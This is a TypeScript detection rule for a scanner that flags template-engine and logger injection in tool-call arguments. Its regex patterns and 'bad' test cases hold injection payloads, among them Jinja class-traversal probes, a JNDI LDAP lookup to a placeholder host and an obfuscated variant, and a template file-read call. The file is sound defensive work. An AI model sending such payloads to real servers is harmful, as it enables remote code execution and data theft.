import { phrase, type Phrase } from '../../text/match/phrase.ts'
import { BARE, of, worded } from '../argument/judged.ts'
import type { Rule } from '../rule.ts'
import { calling, HONEST_CALLS } from './sample.ts'
import type { MessageSubject } from './subject.ts'

const OPENS = String.raw`(?:\{\{[{=]?|\$\{\{?|#\{|<%=?|\{%=?|\*\{|@\{|@\(|~\{|\[\[\$\{|\{\$\{?)`
const MARKS = ['{{', '${', '#{', '<%', '{%', '*{', '@{', '@(', '~{', '{$']

const TEMPLATES: readonly Phrase[] = [
  // A sum that nobody needs: it shows whether somebody computes it.
  phrase(MARKS, new RegExp(String.raw`${OPENS} ?['"]?\d{1,9}['"]? ?[*+/-] ?['"]?\d{1,9}['"]?`, 'g')),
  // Ways from a value to the classes of a language, and calls with something in quotes.
  phrase(
    MARKS,
    new RegExp(
      String.raw`${OPENS}[^{}%]{0,160}(?:__ ?\w|\.constructor\b|\bconstructor\.|getclass\(|\.mro\b|runtime\b|t\(java|self\.)`,
      'g',
    ),
  ),
  phrase(MARKS, new RegExp(String.raw`${OPENS} ?[\w.@]{1,60}\( ?(?:['"]|[\w$]{1,40}[([]|\d{0,6} ?\))`, 'g')),
  phrase(['${'], /\$\{(?:\$\{|jndi:|lower:|upper:|sys:|java:|::-|main:|ctx:|script:|dns:|url:|base64:)/g),
  phrase(
    ['<#assign', '<#list', 'freemarker.template', '#set($', '#set ($', '?new('],
    /<#(?:assign|list) |freemarker\.template\.|#set ?\( ?\$\w{1,40} ?=|\?new\(/g,
  ),
  phrase(['constructor.constructor('], /constructor\.constructor\(/g),
]

export const templateInjection: Rule<MessageSubject> = {
  id: 'template-injection',
  severity: 'high',
  confidence: 'medium',
  tier: 'review',
  summary: 'An argument holds an expression that a template engine or a logger would evaluate',
  fix: 'Look at where this value comes from. A server must not render values as templates.',
  references: ['MCP05', 'SAFE-T1101', 'CoSAI T3'],
  bad: [
    calling({ name: '{{7*7}}' }),
    calling({ name: '${7*7}' }),
    calling({ name: '<%= 7 * 7 %>' }),
    calling({ name: '#{7*7}' }),
    calling({ name: "{{''.__class__.__mro__}}" }),
    calling({ name: '${jndi:ldap://a.example.test/a}' }),
    calling({ id: '${${lower:j}ndi:ldap://a.example.test}' }),
    calling({ name: '{{ read_file("/srv/a") }}' }),
    calling({ name: '%7B%7B7*7%7D%7D' }),
  ],
  good: [
    calling({ name: '{{name}}' }),
    calling({ name: '${HOME}/bin' }),
    calling({ name: '{{ user.name | upper }}' }),
    calling({ ref: '${{ github.ref }}' }),
    calling({ template: '{{ 7*7 }}' }),
    calling({ body: '{{7*7}} shows whether a page is rendered' }),
    ...HONEST_CALLS,
  ],
  phrases: TEMPLATES,
  check: ({ values }, seek) => worded(of(values, BARE), TEMPLATES, seek, 'a template would evaluate it'),
}
